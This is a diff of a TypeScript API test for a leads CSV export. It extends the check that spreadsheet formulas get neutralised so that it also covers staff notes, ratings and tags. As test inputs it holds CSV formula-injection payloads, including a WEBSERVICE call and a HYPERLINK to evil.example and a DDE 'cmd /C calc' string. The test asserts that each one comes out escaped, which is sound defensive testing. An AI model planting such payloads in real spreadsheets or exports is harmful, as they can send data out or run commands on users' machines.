@@ -1,6 +1,6 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { bearer } from '#api-test/http';
-import { flipbookFor, leadBody, sendLead } from '#api-test/lead-requests';
+import { flipbookFor, leadBody, putNotes, sendLead, stampOf } from '#api-test/lead-requests';
 import { startTestApp, type TestApp } from '#api-test/test-app';
 import { createTestUser, type TestUser } from '#api-test/users';
 
@@ -21,7 +21,7 @@ describe('Export CSV of leads', () => {
     return { res, bytes: Buffer.from(await res.arrayBuffer()) };
   };
 
-  it('downloads RFC 4180 CSV in UTF-8 with a BOM, formula and quote payloads made inert', async () => {
+  it('downloads RFC 4180 CSV in UTF-8 with a BOM, formula and quote payloads made inert, staff notes’ too', async () => {
     const book = await flipbookFor(app.url, owner, { title: '@SUM(1+1) "Menu", été' });
     const hostile = leadBody({
       source: 'kiosk',
@@ -43,6 +43,13 @@ describe('Export CSV of leads', () => {
     });
     for (const body of [hostile, plain])
       expect((await sendLead(app.url, book, body, bearer(owner.token))).status).toBe(201);
+    const at = stampOf(Date.now(), 'laptop');
+    const notes = {
+      staffNote: { value: '=WEBSERVICE("http://evil.example")', stamp: at },
+      rating: { value: 'hot', stamp: at },
+      tags: { value: ['@boss', 'follow up', '-vip'], stamp: at },
+    };
+    expect((await putNotes(app.url, owner.token, hostile.id, notes)).status).toBe(200);
 
     const consent = `${owner.user.name} may contact me about this brochure`;
     const { res, bytes } = await exported();
@@ -55,9 +62,9 @@ describe('Export CSV of leads', () => {
     expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     expect(bytes.subarray(3).toString('utf8')).toBe(
       [
-        'When (UTC),Flipbook,E-mail,Name,Company,Note,Where,Event,Device,Consent,Consent given (UTC),Lead id',
-        `2026-03-02 10:15:30,"'@SUM(1+1) ""Menu"", été",mallory@example.com,"'=HYPERLINK(""http://evil.example"",""Click"")","'+cmd|"" /C calc""!A0","'-2+3, said ""he""\nand left",Event kiosk,'=1+1,Tablet 2,${consent},2026-03-02 10:15:30,${hostile.id}`,
-        `2026-03-01 08:00:00,"'@SUM(1+1) ""Menu"", été",ada@example.com,,,,Event kiosk,,,${consent},2026-03-01 08:00:00,${plain.id}`,
+        'When (UTC),Flipbook,E-mail,Name,Company,Note,Where,Event,Device,Consent,Consent given (UTC),Lead id,Staff note,Rating,Tags',
+        `2026-03-02 10:15:30,"'@SUM(1+1) ""Menu"", été",mallory@example.com,"'=HYPERLINK(""http://evil.example"",""Click"")","'+cmd|"" /C calc""!A0","'-2+3, said ""he""\nand left",Event kiosk,'=1+1,Tablet 2,${consent},2026-03-02 10:15:30,${hostile.id},"'=WEBSERVICE(""http://evil.example"")",Hot,"'@boss, follow up, -vip"`,
+        `2026-03-01 08:00:00,"'@SUM(1+1) ""Menu"", été",ada@example.com,,,,Event kiosk,,,${consent},2026-03-01 08:00:00,${plain.id},,,`,
         '',
       ].join('\r\n'),
     );
@@ -75,7 +82,7 @@ describe('Export CSV of leads', () => {
       (await exported(query)).bytes.toString('utf8').trim().split('\r\n').slice(1);
     const consent = `${owner.user.name} may contact me about this brochure`;
     expect(await rows(`?flipbookId=${book}`)).toEqual([
-      `2026-04-01 12:00:00,Filtered,${body.email},Ada Lovelace,Analytical Engines,Please call after the fair,Event kiosk,Spring Fair,,${consent},2026-04-01 12:00:00,${body.id}`,
+      `2026-04-01 12:00:00,Filtered,${body.email},Ada Lovelace,Analytical Engines,Please call after the fair,Event kiosk,Spring Fair,,${consent},2026-04-01 12:00:00,${body.id},,,`,
     ]);
     expect(await rows(`?flipbookId=${book}&from=2026-04-02T00:00:00.000Z`)).toEqual([]);
     const today = new Date().toISOString().slice(0, 10);
